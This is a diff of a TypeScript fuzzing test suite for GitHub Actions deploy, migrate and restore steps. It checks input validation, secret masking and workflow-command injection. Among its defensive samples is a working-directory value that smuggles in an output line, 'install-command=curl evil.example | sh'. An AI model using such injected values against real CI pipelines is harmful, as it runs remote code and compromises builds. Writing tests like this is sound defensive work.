@@ -17,13 +17,28 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse as parseYaml } from 'yaml';
-import { parseKeyValueFile, parseWorkflowCommand, projectRoot, startAction, type ActionResult } from './harness/index.js';
+import {
+  parseKeyValueFile,
+  parseWorkflowCommand,
+  projectRoot,
+  startAction,
+  type ActionResult,
+} from './harness/index.js';
 
 // ---------- the classes ----------
 
 type ClassName =
-  | 'empty' | 'wrong-type' | 'negative' | 'huge' | 'unknown-enum' | 'malformed-url' | 'url-credentials'
-  | 'newline' | 'very-long' | 'non-ascii' | 'json-shape';
+  | 'empty'
+  | 'wrong-type'
+  | 'negative'
+  | 'huge'
+  | 'unknown-enum'
+  | 'malformed-url'
+  | 'url-credentials'
+  | 'newline'
+  | 'very-long'
+  | 'non-ascii'
+  | 'json-shape';
 
 /** One fuzz value for one input. `{PORT}` is replaced by the case's listener port. */
 interface Sample {
@@ -47,6 +62,7 @@ const LONG = 5000;
 type Kind =
   | { kind: 'duration'; zero?: boolean }
   | { kind: 'integer' }
+  | { kind: 'size' }
   | { kind: 'boolean' }
   | { kind: 'enum'; values: string[] }
   | { kind: 'token' }
@@ -105,6 +121,17 @@ function samples(name: string, spec: InputSpec): Sample[] {
         { cls: 'very-long', value: '9'.repeat(LONG), valid: false, shown: '9999999999' },
         { cls: 'non-ascii', value: '３', valid: false, shown: "'３'" },
       ];
+    case 'size':
+      return [
+        empty,
+        { cls: 'wrong-type', value: 'big', valid: false, shown: "'big'" },
+        { cls: 'negative', value: '-1GB', valid: false, shown: "'-1GB'" },
+        { cls: 'huge', value: '99999999999TB', valid: false, shown: "'99999999999TB'" },
+        nl('1GB'),
+        cr('1GB'),
+        { cls: 'very-long', value: `${'9'.repeat(LONG)}GB`, valid: false, shown: "'9999999999" },
+        { cls: 'non-ascii', value: '1 ГБ', valid: false, shown: "'1 ГБ'" },
+      ];
     case 'boolean':
       return [
         empty,
@@ -144,7 +171,13 @@ function samples(name: string, spec: InputSpec): Sample[] {
       return [
         empty,
         { cls: 'wrong-type', value: 'not a url', valid: false, shown: "'not a url'" },
-        { cls: 'malformed-url', value: `http://fzuser:${badPw}@${HOST}:bad/health`, valid: false, secrets: [badPw], shown: 'fzuser:***@127.0.0.1' },
+        {
+          cls: 'malformed-url',
+          value: `http://fzuser:${badPw}@${HOST}:bad/health`,
+          valid: false,
+          secrets: [badPw],
+          shown: 'fzuser:***@127.0.0.1',
+        },
         {
           cls: 'url-credentials',
           value: `http://fzuser:${pw}@${HOST}/health?access_token=${qtok}`,
@@ -164,7 +197,13 @@ function samples(name: string, spec: InputSpec): Sample[] {
       return [
         empty,
         { cls: 'wrong-type', value: 'not a url', valid: false, shown: "'not a url'" },
-        { cls: 'malformed-url', value: `http://fzuser:${badPw}@${HOST}:bad/health`, valid: false, secrets: [badPw], shown: 'fzuser:***@127.0.0.1' },
+        {
+          cls: 'malformed-url',
+          value: `http://fzuser:${badPw}@${HOST}:bad/health`,
+          valid: false,
+          secrets: [badPw],
+          shown: 'fzuser:***@127.0.0.1',
+        },
         { cls: 'url-credentials', value: `api=http://fzuser:${pw}@${HOST}/health`, valid: true, secrets: [pw] },
         { cls: 'unknown-enum', value: `worker=http://${HOST}/health`, valid: false, shown: "'worker'" },
         nl(`api=http://${HOST}/health`),
@@ -181,25 +220,59 @@ function samples(name: string, spec: InputSpec): Sample[] {
       const umlaut = `fz${tag}Päss-wörd3c`;
       return [
         empty,
-        { cls: 'wrong-type', value: `host=127.0.0.1 port=${P} password=${kv}`, valid: false, secrets: [kv], shown: 'password=***' },
-        { cls: 'malformed-url', value: `postgres://fz:${bad}@${HOST}:bad/app`, valid: false, secrets: [bad], shown: 'fz:***@127.0.0.1' },
-        { cls: 'url-credentials', value: `postgres://fz@${HOST}/app?password=${q}&sslpassword=${ssl}`, valid: true, secrets: [q, ssl] },
+        {
+          cls: 'wrong-type',
+          value: `host=127.0.0.1 port=${P} password=${kv}`,
+          valid: false,
+          secrets: [kv],
+          shown: 'password=***',
+        },
+        {
+          cls: 'malformed-url',
+          value: `postgres://fz:${bad}@${HOST}:bad/app`,
+          valid: false,
+          secrets: [bad],
+          shown: 'fz:***@127.0.0.1',
+        },
+        {
+          cls: 'url-credentials',
+          value: `postgres://fz@${HOST}/app?password=${q}&sslpassword=${ssl}`,
+          valid: true,
+          secrets: [q, ssl],
+        },
         { cls: 'newline', value: `postgres://fz:${lined}@${HOST}/app${INJECT_LF}`, valid: false, secrets: [lined] },
-        { cls: 'very-long', value: `postgres://fz:${lined}@${HOST}/${'d'.repeat(LONG)}`, valid: true, secrets: [lined] },
-        { cls: 'non-ascii', value: `postgres://fz:${umlaut}@${HOST}/app`, valid: true, secrets: [umlaut, encodeURIComponent(umlaut)] },
+        {
+          cls: 'very-long',
+          value: `postgres://fz:${lined}@${HOST}/${'d'.repeat(LONG)}`,
+          valid: true,
+          secrets: [lined],
+        },
+        {
+          cls: 'non-ascii',
+          value: `postgres://fz:${umlaut}@${HOST}/app`,
+          valid: true,
+          secrets: [umlaut, encodeURIComponent(umlaut)],
+        },
       ];
     }
     case 'text':
       return [
         empty,
-        ...(t.wrongType ? [{ cls: 'wrong-type' as const, value: t.wrongType, valid: false, shown: `'${t.wrongType}'` }] : []),
+        ...(t.wrongType
+          ? [{ cls: 'wrong-type' as const, value: t.wrongType, valid: false, shown: `'${t.wrongType}'` }]
+          : []),
         nl('fz-value'),
         cr('fz-value'),
         { cls: 'very-long', value: 'v'.repeat(LONG), valid: t.validLong ?? true },
         { cls: 'non-ascii', value: 'prod-ü✓', valid: t.validNonAscii ?? true },
       ];
     case 'multiline':
-      return [empty, nl('fz line one', true), { cls: 'very-long', value: 'm'.repeat(LONG), valid: true }, { cls: 'non-ascii', value: 'plän ✓ 値', valid: true }];
+      return [
+        empty,
+        nl('fz line one', true),
+        { cls: 'very-long', value: 'm'.repeat(LONG), valid: true },
+        { cls: 'non-ascii', value: 'plän ✓ 値', valid: true },
+      ];
     case 'list':
       return [
         empty,
@@ -211,9 +284,20 @@ function samples(name: string, spec: InputSpec): Sample[] {
       return [
         empty,
         { cls: 'wrong-type', value: 'not json', valid: false },
-        ...['null', '[]', '"x"', '{}', '{"risk":"catastrophic"}', '{"files":"all"}'].map((value): Sample => ({ cls: 'json-shape', value, valid: false })),
+        ...['null', '[]', '"x"', '{}', '{"risk":"catastrophic"}', '{"files":"all"}'].map((value): Sample => ({
+          cls: 'json-shape',
+          value,
+          valid: false,
+        })),
         nl('{"risk":"safe"}'),
-        { cls: 'very-long', value: JSON.stringify({ risk: 'safe', files: Array.from({ length: 200 }, (_, i) => ({ file: `m/${i}.sql`, risk: 'safe' })) }), valid: true },
+        {
+          cls: 'very-long',
+          value: JSON.stringify({
+            risk: 'safe',
+            files: Array.from({ length: 200 }, (_, i) => ({ file: `m/${i}.sql`, risk: 'safe' })),
+          }),
+          valid: true,
+        },
         { cls: 'non-ascii', value: '{"risk":"safe","files":[{"file":"mïgration.sql","risk":"safe"}]}', valid: true },
       ];
     case 'deployments-json':
@@ -222,7 +306,11 @@ function samples(name: string, spec: InputSpec): Sample[] {
         { cls: 'wrong-type', value: 'not json', valid: false },
         ...['null', '[1,2]', '"x"'].map((value): Sample => ({ cls: 'json-shape', value, valid: false })),
         nl('[]'),
-        { cls: 'very-long', value: JSON.stringify(Array.from({ length: 100 }, () => ({ service: 'api', deploymentId: 'd'.repeat(40) }))), valid: true },
+        {
+          cls: 'very-long',
+          value: JSON.stringify(Array.from({ length: 100 }, () => ({ service: 'api', deploymentId: 'd'.repeat(40) }))),
+          valid: true,
+        },
         { cls: 'non-ascii', value: '[{"service":"api","deploymentId":"dé"}]', valid: true },
       ];
     case 'headers': {
@@ -306,7 +394,12 @@ function samples(name: string, spec: InputSpec): Sample[] {
       ];
     case 'ignored':
       // Read only with another source/mode than the fuzz base uses: any value is accepted (not read).
-      return [empty, nl('fz-ignored', true), { cls: 'very-long', value: 'i'.repeat(LONG), valid: true }, { cls: 'non-ascii', value: 'ïgnored', valid: true }];
+      return [
+        empty,
+        nl('fz-ignored', true),
+        { cls: 'very-long', value: 'i'.repeat(LONG), valid: true },
+        { cls: 'non-ascii', value: 'ïgnored', valid: true },
+      ];
   }
 }
 
@@ -326,7 +419,9 @@ const DB_PASSWORD = 'fzBaseDbPassw0rd';
 const DB_URL = `postgres://fz:${DB_PASSWORD}@${HOST}/app`;
 
 const d = (zero = false): InputSpec => ({ type: { kind: 'duration', zero } });
-const text = (extra: Partial<Extract<Kind, { kind: 'text' }>> = {}): InputSpec => ({ type: { kind: 'text', ...extra } });
+const text = (extra: Partial<Extract<Kind, { kind: 'text' }>> = {}): InputSpec => ({
+  type: { kind: 'text', ...extra },
+});
 const bool: InputSpec = { type: { kind: 'boolean' } };
 const int: InputSpec = { type: { kind: 'integer' } };
 
@@ -451,6 +546,19 @@ const SPECS: Record<string, ActionSpec> = {
       'max-retries': int,
       mode: { type: { kind: 'enum', values: ['apply'] } },
       'rehearsal-database-url': { type: { kind: 'database-url' } },
+      backup: { type: { kind: 'enum', values: ['auto', 'off'] } },
+      'backup-max-size': { type: { kind: 'size' } },
+      'backup-retention': d(),
+    },
+  },
+  restore: {
+    base: { 'database-url': DB_URL },
+    baseSecrets: [DB_PASSWORD],
+    inputs: {
+      'database-url': { type: { kind: 'database-url' }, required: true },
+      // Only ids the migrate step prints (b<timestamp>_<hex>) are accepted: anything else is refused before connecting.
+      'backup-id': { type: { kind: 'text', wrongType: 'latest', validLong: false, validNonAscii: false } },
+      'lock-wait': d(true),
     },
   },
   'railway-deploy': {
@@ -472,7 +580,13 @@ const SPECS: Record<string, ActionSpec> = {
   '.': {
     base: { 'railway-token': RAILWAY_TOKEN, service: 'api', 'api-url': `http://${HOST}/graphql/v2` },
     baseSecrets: [RAILWAY_TOKEN],
-    inputs: { ...railwayCommon, ...healthCommon, ...deploySource, service: { type: { kind: 'list' }, required: true }, rollback: bool },
+    inputs: {
+      ...railwayCommon,
+      ...healthCommon,
+      ...deploySource,
+      service: { type: { kind: 'list' }, required: true },
+      rollback: bool,
+    },
   },
   'promotion-guard': {
     base: { token: GH_TOKEN, environment: 'staging' },
@@ -488,23 +602,51 @@ const SPECS: Record<string, ActionSpec> = {
 
 // ---------- discovery: every JavaScript action, every input ----------
 
-interface ActionFile { action: string; file: string; inputs: string[]; outputs: string[]; using: string }
+interface ActionFile {
+  action: string;
+  file: string;
+  inputs: string[];
+  outputs: string[];
+  using: string;
+}
 function actionFiles(): ActionFile[] {
-  const dirs = readdirSync(path.join(projectRoot, 'actions'), { withFileTypes: true }).filter((e) => e.isDirectory()).map((e) => e.name);
-  const list = [{ action: '.', file: path.join(projectRoot, 'action.yml') }, ...dirs.map((n) => ({ action: n, file: path.join(projectRoot, 'actions', n, 'action.yml') }))];
-  return list
-    .filter((a) => existsSync(a.file))
-    .map((a) => {
-      const meta = parseYaml(readFileSync(a.file, 'utf8')) as { inputs?: Record<string, unknown>; outputs?: Record<string, unknown>; runs: { using: string; main?: string } };
-      return { ...a, inputs: Object.keys(meta.inputs ?? {}), outputs: Object.keys(meta.outputs ?? {}), using: meta.runs.using };
-    })
-    // actions/release is the root action under a path (scripts/docs.mjs renders it from action.yml): fuzzed as '.'.
-    .filter((a) => a.action !== 'release');
+  const dirs = readdirSync(path.join(projectRoot, 'actions'), { withFileTypes: true })
+    .filter((e) => e.isDirectory())
+    .map((e) => e.name);
+  const list = [
+    { action: '.', file: path.join(projectRoot, 'action.yml') },
+    ...dirs.map((n) => ({ action: n, file: path.join(projectRoot, 'actions', n, 'action.yml') })),
+  ];
+  return (
+    list
+      .filter((a) => existsSync(a.file))
+      .map((a) => {
+        const meta = parseYaml(readFileSync(a.file, 'utf8')) as {
+          inputs?: Record<string, unknown>;
+          outputs?: Record<string, unknown>;
+          runs: { using: string; main?: string };
+        };
+        return {
+          ...a,
+          inputs: Object.keys(meta.inputs ?? {}),
+          outputs: Object.keys(meta.outputs ?? {}),
+          using: meta.runs.using,
+        };
+      })
+      // actions/release is the root action under a path (scripts/docs.mjs renders it from action.yml): fuzzed as '.'.
+      .filter((a) => a.action !== 'release')
+  );
 }
 const ACTIONS = actionFiles();
 const JS_ACTIONS = ACTIONS.filter((a) => a.using.startsWith('node'));
 
-interface Case extends Sample { id: string; action: string; input: string; inputs: Record<string, string>; secretsAll: string[] }
+interface Case extends Sample {
+  id: string;
+  action: string;
+  input: string;
+  inputs: Record<string, string>;
+  secretsAll: string[];
+}
 const CASES: Case[] = [];
 for (const a of JS_ACTIONS) {
   const spec = SPECS[a.action];
@@ -595,7 +737,16 @@ function pool(cases: Case[]): void {
 // ---------- the checks ----------
 
 const durations: Array<[string, number]> = [];
-const counts = { cases: 0, inputs: 0, clearErrors: 0, valid: 0, reachedNetwork: 0, leaks: 0, injections: 0, stackTraces: 0 };
+const counts = {
+  cases: 0,
+  inputs: 0,
+  clearErrors: 0,
+  valid: 0,
+  reachedNetwork: 0,
+  leaks: 0,
+  injections: 0,
+  stackTraces: 0,
+};
 const started = Date.now();
 
 /** Lines as the runner reads them: a line ends at CR, LF or CRLF (a lone CR ends a line too). */
@@ -604,7 +755,9 @@ const runnerLines = (text: string) => text.split(/\r\n|\r|\n/);
 function problemsOf(c: Case, o: Outcome): string[] {
   const r = o.result;
   const problems: string[] = [];
-  const everything = [r.allText, ...r.annotations.map((a) => `${a.message} ${JSON.stringify(a.properties)}`)].join('\n');
+  const everything = [r.allText, ...r.annotations.map((a) => `${a.message} ${JSON.stringify(a.properties)}`)].join(
+    '\n',
+  );
   if (r.timedOut) problems.push('timed out');
   for (const secret of c.secretsAll) {
     if (everything.includes(secret) || everything.includes(encodeURIComponent(secret))) {
@@ -614,12 +767,23 @@ function problemsOf(c: Case, o: Outcome): string[] {
   }
   for (const line of runnerLines(`${r.stdout}\n${r.stderr}`)) {
     const cmd = parseWorkflowCommand(line);
-    if (cmd && (cmd.properties.title === INJECTED || (cmd.command !== 'error' && cmd.command !== 'add-mask' && line.includes(INJECTED)))) {
+    if (
+      cmd &&
+      (cmd.properties.title === INJECTED ||
+        (cmd.command !== 'error' && cmd.command !== 'add-mask' && line.includes(INJECTED)))
+    ) {
       counts.injections++;
       problems.push(`a workflow command was injected: ${JSON.stringify(line.slice(0, 120))}`);
     }
   }
-  if (/\n\s+at .+:\d+:\d+\)?/.test(`${r.stdout}\n${r.stderr}`.split('\n').filter((l) => !l.startsWith('::debug::')).join('\n'))) {
+  if (
+    /\n\s+at .+:\d+:\d+\)?/.test(
+      `${r.stdout}\n${r.stderr}`
+        .split('\n')
+        .filter((l) => !l.startsWith('::debug::'))
+        .join('\n'),
+    )
+  ) {
     counts.stackTraces++;
     problems.push('prints a stack trace');
   }
@@ -635,7 +799,8 @@ function problemsOf(c: Case, o: Outcome): string[] {
     if (r.exitCode !== 1) problems.push(`exit code ${r.exitCode} (signal ${r.signal}), expected 1`);
     if (errors.length !== 1) problems.push(`expected exactly one error, got ${errors.length}: ${errors.join(' | ')}`);
     else if (aboutInput.length !== 1) problems.push(`the error does not name input '${c.input}': ${errors[0]}`);
-    else if (c.shown && !(aboutInput[0] as string).includes(c.shown)) problems.push(`the error does not quote the value (${c.shown}): ${aboutInput[0]}`);
+    else if (c.shown && !(aboutInput[0] as string).includes(c.shown))
+      problems.push(`the error does not quote the value (${c.shown}): ${aboutInput[0]}`);
     if (o.connections > 0) problems.push(`an invalid value reached the network (${o.connections} connection(s))`);
   }
   return problems;
@@ -658,7 +823,11 @@ afterAll(() => {
       `(${CASES.length} generated); ${counts.clearErrors} refused with one clear error naming the input, ${counts.valid} accepted ` +
       `(${counts.reachedNetwork} got as far as the network, where nothing answered); leaks ${counts.leaks}, injected commands ` +
       `${counts.injections}, stack traces ${counts.stackTraces}; ${((Date.now() - started) / 1000).toFixed(0)}s with ${CONCURRENCY} processes at a time; ` +
-      `slowest: ${durations.sort((a, b) => b[1] - a[1]).slice(0, 3).map(([id, ms]) => `${id} ${ms}ms`).join(', ')}`,
+      `slowest: ${durations
+        .sort((a, b) => b[1] - a[1])
+        .slice(0, 3)
+        .map(([id, ms]) => `${id} ${ms}ms`)
+        .join(', ')}`,
   );
 });
 
@@ -672,7 +841,9 @@ describe('input fuzzing: coverage', () => {
         continue;
       }
       for (const input of a.inputs) if (!spec.inputs[input]) missing.push(`${a.action}: ${input}`);
-      for (const input of Object.keys(spec.inputs)) if (!a.inputs.includes(input)) missing.push(`${a.action}: spec for '${input}', which action.yml does not declare`);
+      for (const input of Object.keys(spec.inputs))
+        if (!a.inputs.includes(input))
+          missing.push(`${a.action}: spec for '${input}', which action.yml does not declare`);
     }
     expect(missing).toEqual([]);
     expect(CASES.length).toBeGreaterThan(500);
@@ -681,28 +852,41 @@ describe('input fuzzing: coverage', () => {
 
 // Gaps in files this suite's author does not own, kept visible: each runs as `it.fails`, so the suite goes red the
 // day the gap is closed and the entry must be removed.
-const KNOWN_GAPS: Record<string, string> = {
-  'migrate working-directory wrong-type#1': 'src/actions/migrate.ts resolves working-directory without checking it exists (use directoryInput)',
-  'migrate working-directory very-long#3': 'as above',
-  'migrate working-directory non-ascii#4': 'as above',
-};
+const KNOWN_GAPS: Record<string, string> = {};
 
 describe.each(JS_ACTIONS.filter((a) => SPECS[a.action]).map((a) => a.action))('input fuzzing: %s', (action) => {
   const cases = CASES.filter((c) => c.action === action);
-  it.fails.each(cases.filter((c) => KNOWN_GAPS[c.id]).map((c) => [c.id, c] as const))('%s (known gap)', async (_id, c) => {
-    expect(problemsOf(c, await outcomeOf(c))).toEqual([]);
-  }, 180_000);
-  it.each(cases.filter((c) => !KNOWN_GAPS[c.id]).map((c) => [c.id, c] as const))('%s', async (_id, c) => {
-    const o = await outcomeOf(c);
-    counts.cases++;
-    durations.push([c.id, o.result.durationMs]);
-    const problems = problemsOf(c, o);
-    if (!c.valid && problems.length === 0) counts.clearErrors++;
-    if (c.valid) counts.valid++;
-    if (o.reachedNetwork) counts.reachedNetwork++;
-    const r = o.result;
-    expect(problems, `${c.id} value ${JSON.stringify(c.value.slice(0, 80))}\nerrors: ${r.annotations.filter((a) => a.level === 'error').map((a) => a.message).join(' | ')}\nlog tail:\n${r.stdout.slice(-1500)}`).toEqual([]);
-  }, 180_000);
+  const gaps = cases.filter((c) => KNOWN_GAPS[c.id]).map((c) => [c.id, c] as const);
+  if (gaps.length) {
+    it.fails.each(gaps)(
+      '%s (known gap)',
+      async (_id, c) => {
+        expect(problemsOf(c, await outcomeOf(c))).toEqual([]);
+      },
+      180_000,
+    );
+  }
+  it.each(cases.filter((c) => !KNOWN_GAPS[c.id]).map((c) => [c.id, c] as const))(
+    '%s',
+    async (_id, c) => {
+      const o = await outcomeOf(c);
+      counts.cases++;
+      durations.push([c.id, o.result.durationMs]);
+      const problems = problemsOf(c, o);
+      if (!c.valid && problems.length === 0) counts.clearErrors++;
+      if (c.valid) counts.valid++;
+      if (o.reachedNetwork) counts.reachedNetwork++;
+      const r = o.result;
+      expect(
+        problems,
+        `${c.id} value ${JSON.stringify(c.value.slice(0, 80))}\nerrors: ${r.annotations
+          .filter((a) => a.level === 'error')
+          .map((a) => a.message)
+          .join(' | ')}\nlog tail:\n${r.stdout.slice(-1500)}`,
+      ).toEqual([]);
+    },
+    180_000,
+  );
 });
 
 // ---------- actions/setup: the detect script (composite, run with bash as test/setup-action.test.ts does) ----------
@@ -710,7 +894,9 @@ describe.each(JS_ACTIONS.filter((a) => SPECS[a.action]).map((a) => a.action))('i
 const hasTools = ['bash', 'jq'].every((tool) => spawnSync('which', [tool]).status === 0);
 
 describe.skipIf(!hasTools)('input fuzzing: actions/setup detect script', () => {
-  const setup = parseYaml(readFileSync(path.join(projectRoot, 'actions/setup/action.yml'), 'utf8')) as { runs: { steps: Array<{ id?: string; run?: string }> } };
+  const setup = parseYaml(readFileSync(path.join(projectRoot, 'actions/setup/action.yml'), 'utf8')) as {
+    runs: { steps: Array<{ id?: string; run?: string }> };
+  };
   const detect = setup.runs.steps.find((s) => s.id === 'detect')?.run ?? '';
   let work: string;
   beforeAll(async () => {
@@ -726,7 +912,16 @@ describe.skipIf(!hasTools)('input fuzzing: actions/setup detect script', () => {
     const r = await new Promise<{ status: number | null; out: string }>((resolve, reject) => {
       const child = spawn('bash', ['-c', detect], {
         cwd: work,
-        env: { PATH: process.env['PATH'] ?? '', GITHUB_OUTPUT: output, WORKING_DIRECTORY: '.', REQUESTED: 'auto', REQUESTED_VERSION: '', INSTALL_COMMAND: '', CACHE: 'true', ...env },
+        env: {
+          PATH: process.env['PATH'] ?? '',
+          GITHUB_OUTPUT: output,
+          WORKING_DIRECTORY: '.',
+          REQUESTED: 'auto',
+          REQUESTED_VERSION: '',
+          INSTALL_COMMAND: '',
+          CACHE: 'true',
+          ...env,
+        },
         stdio: ['ignore', 'pipe', 'pipe'],
       });
       let out = '';
@@ -736,7 +931,9 @@ describe.skipIf(!hasTools)('input fuzzing: actions/setup detect script', () => {
       child.on('close', (status) => resolve({ status, out }));
     });
     const outputs = parseKeyValueFile(await readFile(output, 'utf8'), 'GITHUB_OUTPUT');
-    const injected = runnerLines(r.out).filter((l) => parseWorkflowCommand(l)?.properties.title === INJECTED || /^\s*::notice/.test(l));
+    const injected = runnerLines(r.out).filter(
+      (l) => parseWorkflowCommand(l)?.properties.title === INJECTED || /^\s*::notice/.test(l),
+    );
     return { ...r, outputs, injected };
   }
 
@@ -744,15 +941,20 @@ describe.skipIf(!hasTools)('input fuzzing: actions/setup detect script', () => {
     ['LF', `.${INJECT_LF}`],
     ['CR', `.${INJECT_CR}`],
     ['an output line', '.\ninstall-command=curl evil.example | sh'],
-  ])('a working-directory with a line break (%s) is refused with one escaped error, nothing written or injected', async (_what, value) => {
-    const r = await detectWith({ WORKING_DIRECTORY: value });
-    expect(r.status).toBe(1);
-    const lines = runnerLines(r.out).filter(Boolean);
-    expect(lines).toHaveLength(1);
-    expect(lines[0]).toMatch(/^::error title=rail-actions setup::Input 'working-directory': must be a single line, got '\.%250[AD]/);
-    expect(r.injected).toEqual([]);
-    expect(r.outputs).toEqual({});
-  });
+  ])(
+    'a working-directory with a line break (%s) is refused with one escaped error, nothing written or injected',
+    async (_what, value) => {
+      const r = await detectWith({ WORKING_DIRECTORY: value });
+      expect(r.status).toBe(1);
+      const lines = runnerLines(r.out).filter(Boolean);
+      expect(lines).toHaveLength(1);
+      expect(lines[0]).toMatch(
+        /^::error title=rail-actions setup::Input 'working-directory': must be a single line, got '\.%250[AD]/,
+      );
+      expect(r.injected).toEqual([]);
+      expect(r.outputs).toEqual({});
+    },
+  );
 
   it('a multi-line install-command stays one output (delimiter form) and one log line', async () => {
     const r = await detectWith({ INSTALL_COMMAND: `npm ci${INJECT_LF}\nnode-cache=evil` });
@@ -768,7 +970,9 @@ describe.skipIf(!hasTools)('input fuzzing: actions/setup detect script', () => {
   ])('a line break in %s is refused with one escaped error', async (input, env) => {
     const r = await detectWith(env);
     expect(r.status).toBe(1);
-    expect(runnerLines(r.out).filter(Boolean)).toEqual([expect.stringMatching(new RegExp(`^::error title=rail-actions setup::Input '${input}'.*%250A::notice`))]);
+    expect(runnerLines(r.out).filter(Boolean)).toEqual([
+      expect.stringMatching(new RegExp(`^::error title=rail-actions setup::Input '${input}'.*%250A::notice`)),
+    ]);
     expect(r.injected).toEqual([]);
   });
 });
